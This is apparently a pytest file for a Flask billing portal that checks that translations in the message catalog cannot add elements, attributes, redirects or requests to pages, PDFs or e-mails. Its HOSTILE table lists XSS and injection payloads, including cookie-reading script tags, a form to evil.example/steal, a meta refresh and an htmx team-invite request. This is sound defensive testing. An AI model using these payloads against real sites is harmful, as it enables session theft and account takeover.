"""A translation is text (issue 21, finding 1): nothing a translator types adds an element, an
attribute, a comment, a redirect or a request to a page, a fragment, a PDF or an e-mail.

The table test gives every Italian entry the same hostile text (with the entry's own
placeholders, so it formats) and walks the portal as each role would — pages, their error
states, htmx fragments, the invoice and quote PDFs' HTML, an e-mail's HTML part — comparing the
markup of each answer with the same answer under a harmless catalog: the same elements, the
same attribute names, the same links and form targets, no new comment. Each entry's text also
carries a marker of its own, so the test says how many catalog entries it saw printed.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from babel.messages.mofile import write_mo
from babel.messages.pofile import read_po, write_po
from flask import Flask
from flask.testing import FlaskClient
from markupsafe import Markup
from sqlalchemy import select

from portal import create_app
from portal.documents.pdf import render_invoice_html
from portal.documents.quote_pdf import render_quote_html
from portal.domain.translation_checks import percent_placeholders
from portal.extensions import db
from portal.mail.messages import _html_alternative
from portal.models import Account, Invoice, OutgoingEmail, Payment, PaymentMethod, SalesQuote
from portal.safe_gettext import translation_html
from tests.browser.demo_portal import ROLE_EMAILS, Portal, seed_portal
from tests.conftest import FAST_PASSWORD_HASH, csrf_token_from
from tests.wizard.conftest import read_form

ROOT = Path(__file__).resolve().parents[2]

# What a translator could type to act on a customer's page, worst first.
HOSTILE = {
    "attribute break-out, htmx request": (
        'Errore" hx-post="/team/invite" hx-vals=\'{"email": "x@evil.example", '
        '"role": "billing_admin"}\' hx-trigger="load once" hx-swap="none'
    ),
    "attribute break-out, single quote": "Errore' onmouseover='alert(1)' x='",
    "unclosed tag": "Errore <img src=x onerror=alert(1) ",
    "script element": "<script>alert(document.cookie)</script>",
    "comment": "Errore <!-- ",
    "end of a comment": "--> <b>x</b> <!--",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/login">',
    "base element": '<base href="https://evil.example/">',
    "form to another site": (
        '<form action="https://evil.example/steal"><button>Continua</button></form>'
    ),
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#34; onclick=&#34;alert(1)",
    "javascript: URL": '<a href="javascript:alert(1)">clicca</a>',
    "data: URL": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "htmx element": '<div hx-get="/package/auto-renewal" hx-trigger="load">x</div>',
    "leaving the element": (
        "</textarea></title></option></select></style></script><svg onload=alert(1)>"
    ),
    "CDATA and processing instruction": "<![CDATA[ x ]]> <?xml-stylesheet href=x?>",
}
# Placeholders respelled, not text around them: the source's own are kept otherwise.
RESPELLED = {
    "format width": lambda placeholder: placeholder[:-1] + "2000000" + placeholder[-1],
    "format precision": lambda placeholder: placeholder[:-1] + ".0" + placeholder[-1],
    "format width with a space flag": lambda placeholder: (
        placeholder[:-1] + " 2000000" + placeholder[-1]
    ),
}
HARMLESS = "Testo"

# Attributes whose value is where a page sends the browser or its requests.
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href"}
    | {f"hx-{verb}" for verb in ("get", "post", "put", "patch", "delete", "push-url")}
)


def marker(index: int) -> str:
    """A word of letters only that names one catalog entry (no digit, no markup)."""
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(ord("a") + rest) + letters
    return f"qz{letters}zq"


def write_catalogs(directory: Path, text_for: Callable[[int, str], str]) -> None:
    """A copy of the repository's catalogs whose Italian entries all say `text_for(...)`."""
    shutil.copytree(ROOT / "translations", directory, dirs_exist_ok=True)
    po_path = directory / "it" / "LC_MESSAGES" / "messages.po"
    with po_path.open("rb") as handle:
        catalog = read_po(handle, locale="it")
    for index, message in enumerate(message for message in catalog if message.id):
        if message.pluralizable:
            sources = [message.id[0]] + [message.id[1]] * (catalog.num_plurals - 1)
            message.string = tuple(text_for(index, source) for source in sources)
        else:
            message.string = text_for(index, message.id)
    with po_path.open("wb") as handle:
        write_po(handle, catalog, width=0)
    with po_path.with_suffix(".mo").open("wb") as handle:
        write_mo(handle, catalog)


def translated_as(
    payload: str, respell: Callable[[str], str] | None = None
) -> Callable[[int, str], str]:
    """Each entry's text: its marker, the payload, and the source's placeholders."""

    def text_for(index: int, source: str) -> str:
        found = percent_placeholders(source)[0]
        placeholders = [respell(item) if respell else item for item in found]
        return " ".join([marker(index), payload, *placeholders])

    return text_for


class Shape(HTMLParser):
    """What a browser would act on in an HTML answer: elements with their attribute names,
    where links and requests go, comments and declarations; not the text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.items: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = sorted(name for name, _value in attrs)
        targets = sorted(f"{name}={value}" for name, value in attrs if name in URL_ATTRIBUTES)
        self.items.append(f"<{tag} {' '.join(names)} {' '.join(targets)}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        self.items.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.items.append("<!-- comment -->")

    def handle_decl(self, decl: str) -> None:
        self.items.append(f"<!{decl.lower()}>")

    def handle_pi(self, data: str) -> None:
        self.items.append("<? processing instruction ?>")

    def unknown_decl(self, data: str) -> None:
        self.items.append("<![ declaration ]>")


# The translators' editor marks each placeholder of a translation it shows: how many depends on
# what the translator wrote (escaped, as the rest), so these are left out of the comparison.
PLACEHOLDER_MARKS = frozenset({"<mark class >", "</mark>"})


def shape_of(html: str) -> list[str]:
    """The shape of an HTML answer (CSRF tokens and other values left out)."""
    parser = Shape()
    parser.feed(html)
    parser.close()
    return [item for item in parser.items if item not in PLACEHOLDER_MARKS]


def first_difference(expected: list[str], found: list[str]) -> str:
    """Where two shapes part, for the failure message."""
    for position, (wanted, got) in enumerate(zip(expected, found, strict=False)):
        if wanted != got:
            return f"at {position}: expected {wanted!r}, found {got!r}"
    return f"lengths {len(expected)} and {len(found)}"


@dataclass
class Visit:
    """One answer to look at: who asks, what, and how."""

    role: str
    name: str
    method: str = "GET"
    path: str = ""
    data: dict | None = None
    htmx: bool = False


def visits(seeded: Seeded) -> list[Visit]:
    """Every kind of page and state, per role; a POST takes its token from the page first."""
    portal = seeded.portal
    open_invoice, paid = portal.open_invoice_id, portal.paid_invoice_id
    sent, draft = portal.sent_quote_id, portal.draft_quote_id
    selection = "plan=pro&period=annual&currency=EUR&agents=7&packs=1"
    return [
        Visit("anonymous", "sign-in", path="/login"),
        Visit("anonymous", "wrong password", "POST", "/login", {"email": "x@y.z", "password": "x"}),
        Visit("anonymous", "forgot password", path="/password/forgot"),
        Visit("anonymous", "forgot: bad e-mail", "POST", "/password/forgot", {"email": "nope"}),
        Visit("anonymous", "reset", path=f"/password/reset/{portal.reset_token}"),
        Visit("anonymous", "reset: refused link", path="/password/reset/not-a-token"),
        Visit("anonymous", "invitation", path=f"/invitation/{portal.invitation_token}"),
        Visit("anonymous", "not found", path="/no/such/page"),
        Visit("owner", "my package", path="/package"),
        Visit("owner", "plans", path="/package/edit"),
        Visit("owner", "plans, annual", path="/package/edit?period=annual"),
        Visit("owner", "quantities", path=f"/package/edit/quantities?{selection}"),
        Visit(
            "owner",
            "quantities, 60 agents",
            path="/package/edit/quantities?plan=pro&period=annual&currency=EUR&agents=60",
        ),
        Visit("owner", "summary fragment", path=f"/package/edit/summary?{selection}", htmx=True),
        Visit(
            "owner",
            "summary fragment, 0 agents",
            path="/package/edit/summary?plan=pro&period=annual&currency=EUR&agents=0",
            htmx=True,
        ),
        Visit("owner", "payment step", path=f"/package/edit/payment?{selection}"),
        Visit("owner", "seats", path="/package/edit/seats"),
        Visit("owner", "request a quote", path="/package/edit/request-quote"),
        Visit("owner", "invoices", path="/billing/invoices/"),
        Visit("owner", "open invoices", path="/billing/invoices/?status=open"),
        Visit("owner", "note form", path=f"/billing/invoices/{paid}/note/edit"),
        Visit("owner", "note form fragment", path=f"/billing/invoices/{paid}/note/edit", htmx=True),
        Visit(
            "owner",
            "note too long",
            "POST",
            f"/billing/invoices/{paid}/note",
            {"note": "x" * 600},
            htmx=True,
        ),
        Visit("owner", "pay an open invoice", path=f"/billing/invoices/{open_invoice}/pay"),
        Visit("owner", "payment methods", path="/billing/payment-methods/"),
        Visit(
            "owner",
            "an American Express card",
            "POST",
            "/billing/payment-methods/cards",
            {"holder": "Ada", "number": "378282246310005", "expiry": "12/30", "cvc": "1234"},
        ),
        Visit(
            "owner",
            "a name on card too long (a WTForms message formatted with %)",
            "POST",
            "/billing/payment-methods/cards",
            {"holder": "x" * 130, "number": "4242424242424242", "expiry": "12/30", "cvc": "123"},
        ),
        Visit("owner", "billing info", path="/billing/info"),
        Visit(
            "owner",
            "billing info errors",
            "POST",
            "/billing/info",
            {"company": "", "billing_email": "nope", "country": "DE", "vat_id": "DE1"},
        ),
        Visit("owner", "billing activity", path="/billing/activity"),
        Visit("owner", "team", path="/team/"),
        Visit("owner", "invite errors", "POST", "/team/invite", {"email": "nope", "role": "x"}),
        Visit("owner", "quotes", path="/quotes"),
        Visit("owner", "a quote", path=f"/quotes/{sent}"),
        Visit("owner", "accept: billing info", path=f"/quotes/{sent}/accept"),
        Visit("owner", "accept: method", path=f"/quotes/{sent}/accept/method"),
        Visit("owner", "accept: review", path=f"/quotes/{sent}/accept/review"),
        Visit("owner", "accept: confirm", path=f"/quotes/{sent}/accept/confirm"),
        Visit("owner", "password", path="/password"),
        Visit(
            "owner",
            "password errors",
            "POST",
            "/password",
            {"current_password": "wrong", "new_password": "short", "confirm": "other"},
        ),
        Visit("owner", "another account's invoice", path="/billing/invoices/999999/pay"),
        *(Visit("owner", name, path=path) for name, path in seeded.waiting.items()),
        Visit("member", "my package", path="/package"),
        Visit("member", "forbidden", path="/billing/invoices/"),
        Visit("free_owner", "free package", path="/package"),
        Visit("pro_owner", "annual package", path="/package"),
        Visit("pro_owner", "annual to monthly", path="/package/edit?period=monthly"),
        Visit("staff", "accounts", path="/backoffice/accounts"),
        Visit("staff", "no match", path="/backoffice/accounts?q=zzzzzz"),
        Visit("staff", "an account", path=f"/backoffice/accounts/{portal.dante_id}"),
        Visit(
            "staff",
            "its payments",
            path=f"/backoffice/accounts/{portal.dante_id}?show=payments",
        ),
        Visit(
            "staff",
            "its activity",
            path=f"/backoffice/accounts/{portal.dante_id}?show=activity",
        ),
        Visit("staff", "quotes", path="/backoffice/quotes"),
        Visit("staff", "new quote", path="/backoffice/quotes/new"),
        Visit("staff", "new quote errors", "POST", "/backoffice/quotes/new", {"agents": "x"}),
        Visit("staff", "a draft", path=f"/backoffice/quotes/{draft}"),
        Visit("staff", "a sent quote", path=f"/backoffice/quotes/{sent}"),
        Visit("translator", "overview", path="/translations/"),
        Visit("translator", "entries", path="/translations/fr/"),
    ]


def sign_in(app: Flask, portal: Portal, role: str) -> FlaskClient:
    """A test client signed in as the role's demo user, reading Italian."""
    client = app.test_client()
    if role != "anonymous":
        email = ROLE_EMAILS[role]
        page = client.get("/login")
        answer = client.post(
            "/login",
            data={
                "csrf_token": csrf_token_from(page.text),
                "email": email,
                "password": portal.passwords[email],
            },
        )
        assert answer.status_code == 302, (role, answer.status_code)
    return client


def answers(app: Flask, seeded: Seeded) -> Iterator[tuple[str, str]]:
    """(name, HTML) of every visit, the PDFs' HTML and a fresh e-mail's HTML part."""
    portal = seeded.portal
    clients: dict[str, FlaskClient] = {}
    for visit in visits(seeded):
        client = clients.get(visit.role) or clients.setdefault(
            visit.role, sign_in(app, portal, visit.role)
        )
        headers = {"HX-Request": "true"} if visit.htmx else {}
        if visit.method == "POST":
            form_page = client.get("/", follow_redirects=True)
            data = {"csrf_token": csrf_token_from(form_page.text), **(visit.data or {})}
            answer = client.post(visit.path, data=data, headers=headers)
        else:
            answer = client.get(visit.path, headers=headers)
        assert answer.status_code < 500, (visit.name, answer.status_code)
        yield f"{visit.role}: {visit.name}", answer.text
    # Someone asks for a password reset: the e-mail is written in this catalog.
    anonymous = app.test_client()
    page = anonymous.get("/password/forgot")
    anonymous.post(
        "/password/forgot",
        data={"csrf_token": csrf_token_from(page.text), "email": ROLE_EMAILS["member"]},
    )
    with app.test_request_context(headers={"Accept-Language": "it"}):
        email = db.session.scalars(select(OutgoingEmail).order_by(OutgoingEmail.id.desc())).first()
        assert email is not None
        yield "e-mail: password reset (HTML part)", _html_alternative(email)
        for invoice in db.session.scalars(select(Invoice).order_by(Invoice.id)):
            yield f"PDF: {invoice.number}", render_invoice_html(invoice)
        quote = db.session.get(SalesQuote, portal.sent_quote_id)
        yield "PDF: the sent quote", render_quote_html(quote)


@dataclass
class Seeded:
    """The demo portal, and the pages of payments waiting on the customer."""

    portal: Portal
    waiting: dict[str, str]


def payments_waiting(app: Flask, portal: Portal) -> dict[str, str]:
    """The owner presses Pay with the 3-D Secure card, then with PayPal: where each waits,
    and the confirmation page of the purchase the demo made."""
    client = sign_in(app, portal, "owner")
    waiting = {}
    with app.app_context():
        methods = {
            method.kind.value if method.kind.value == "paypal" else method.last4: method.id
            for method in db.session.scalars(
                select(PaymentMethod).where(PaymentMethod.account_id == portal.dante_id)
            )
        }
        purchase = db.session.scalar(
            select(Payment.id).where(Payment.account_id == portal.dante_id).order_by(Payment.id)
        )
    waiting["confirmation"] = f"/package/edit/payments/{purchase}"
    for name, method in (("3-D Secure", methods["3184"]), ("PayPal", methods["paypal"])):
        step = client.get("/package/edit/payment?plan=pro&period=monthly&currency=EUR&agents=4")
        form = read_form(step.text, "pay-form")
        answer = client.post("/package/edit/pay", data={**form, "method": str(method)})
        assert answer.status_code in (302, 303), (name, answer.status_code)
        waiting[name] = urlsplit(answer.headers["Location"]).path
    return waiting


@pytest.fixture
def seeded(app: Flask, tmp_path: Path) -> Seeded:
    """The demo companies in Italian, invoices and quotes in Italian too."""
    portal = seed_portal(app, "it", tmp_path / "credentials.json")
    with app.app_context():
        for account in db.session.scalars(select(Account)):
            if account.billing_info is not None:
                account.billing_info.invoice_language = "it"
        db.session.commit()
    return Seeded(portal, payments_waiting(app, portal))


@contextmanager
def app_with(catalogs: Path, database_url: str, clock, tmp_path: Path) -> Iterator[Flask]:
    """Another app on the same database, serving `catalogs`; its connections closed after."""
    other = create_app(
        {
            "TESTING": True,
            "SQLALCHEMY_DATABASE_URI": database_url,
            "BABEL_TRANSLATION_DIRECTORIES": str(catalogs),
            "MAIL_OUTBOX_DIR": str(tmp_path / "outbox"),
            "PASSWORD_HASH_METHOD": FAST_PASSWORD_HASH,
            "NOW": clock,
            "TODAY": clock.today,
        }
    )
    try:
        yield other
    finally:
        with other.app_context():
            db.session.remove()
            db.engine.dispose()


def test_no_translation_adds_markup_anywhere_it_is_printed(
    app, seeded, database_urls, backend, clock, tmp_path, capsys
) -> None:
    harmless_dir = tmp_path / "harmless"
    write_catalogs(harmless_dir, translated_as(HARMLESS))
    expected: dict[str, list[str]] = {}
    printed: set[str] = set()
    with app_with(harmless_dir, database_urls[backend], clock, tmp_path) as harmless:
        for name, html in answers(harmless, seeded):
            expected[name] = shape_of(html)
            printed.update(re.findall(r"qz[a-z]+zq", html))

    cases = {name: translated_as(payload) for name, payload in HOSTILE.items()}
    cases |= {name: translated_as(HARMLESS, respell) for name, respell in RESPELLED.items()}
    failures: list[str] = []
    for case, text_for in cases.items():
        directory = tmp_path / re.sub(r"\W+", "-", case)
        write_catalogs(directory, text_for)
        with app_with(directory, database_urls[backend], clock, tmp_path) as hostile:
            for name, html in answers(hostile, seeded):
                if len(html) > 1_000_000:
                    failures.append(f"{case} | {name}: {len(html)} characters")
                shape = shape_of(html)
                if shape != expected[name]:
                    failures.append(f"{case} | {name}: {first_difference(expected[name], shape)}")
    with capsys.disabled():
        print(f"\n    catalog entries seen printed: {len(printed)}")
    assert not failures, "\n".join(failures[:40]) + f"\n({len(failures)} in all)"
    assert len(printed) >= 300  # the visits reach most of the catalog


@pytest.mark.parametrize("payload", [*HOSTILE.values(), "a < b & c > d", '"quoted"'])
@pytest.mark.parametrize("placement", ["text", "attribute"])
def test_a_translation_of_plain_text_prints_as_text(payload: str, placement: str) -> None:
    html = translation_html("Error", payload)
    assert isinstance(html, Markup)
    if placement == "attribute":
        assert shape_of(f'<p title="{html}">x</p>') == ["<p title >", "</p>"]
    else:
        assert shape_of(f"<p>{html}</p>") == ["<p  >", "</p>"]


SOURCE_WITH_MARKUP = 'Read the <a href="%(url)s">terms</a> before <strong>paying</strong>'


@pytest.mark.parametrize("payload", HOSTILE.values())
def test_where_the_source_has_markup_only_its_own_tags_survive(payload: str) -> None:
    translated = f'Leggi i <a href="%(url)s">termini</a> {payload} prima di <strong>pagare</strong>'
    html = translation_html(SOURCE_WITH_MARKUP, translated)
    shape = shape_of(f"<p>{html % {'url': '/terms'}}</p>")
    # The source's tags, or fewer (an unclosed opening swallows what follows it as text).
    allowed = {"<p  >", "</p>", "<a href href=/terms>", "<a  >", "</a>", "<strong  >", "</strong>"}
    assert set(shape) <= allowed, shape
    assert shape.count("<p  >") == 1 and shape[-1] == "</p>"
    for tag in ("a", "strong"):
        opened = sum(item.startswith(f"<{tag} ") for item in shape)
        assert opened == shape.count(f"</{tag}>"), shape


def test_where_the_source_has_markup_a_quote_still_cannot_end_an_attribute() -> None:
    html = translation_html("Read the <b>terms</b>", 'Leggi" hx-post="/team/invite" x="<b>t</b>')
    assert shape_of(f'<p title="{html}">x</p>') == ["<p title >", "</p>"]


def test_a_form_message_formatted_with_percent_falls_back_like_gettext(app) -> None:
    # WTForms formats its messages itself ("Use at most %(max)d characters." % {"max": 120}).
    from portal.safe_gettext import TextLazyString

    def respelled(string: str, **variables: object) -> str:
        return "Al massimo %(max)2000000d caratteri."

    message = TextLazyString(respelled, "Use at most %(max)d characters.")
    assert message % {"max": 120} == "Use at most 120 characters."
    benign = TextLazyString(lambda string: "Al massimo %(max)d caratteri.", "Use at most %(max)d")
    assert benign % {"max": 120} == "Al massimo 120 caratteri."


def test_the_source_s_own_markup_is_kept_and_balanced() -> None:
    kept = translation_html(SOURCE_WITH_MARKUP, 'Leggi i <a href="%(url)s">termini</a>')
    assert kept == 'Leggi i <a href="%(url)s">termini</a>'
    balanced = translation_html(SOURCE_WITH_MARKUP, "Leggi <strong>prima")
    assert balanced == "Leggi <strong>prima</strong>"
    moved = translation_html(SOURCE_WITH_MARKUP, '<a href="https://evil.example/">termini</a>')
    assert moved == "<a>termini</a>"
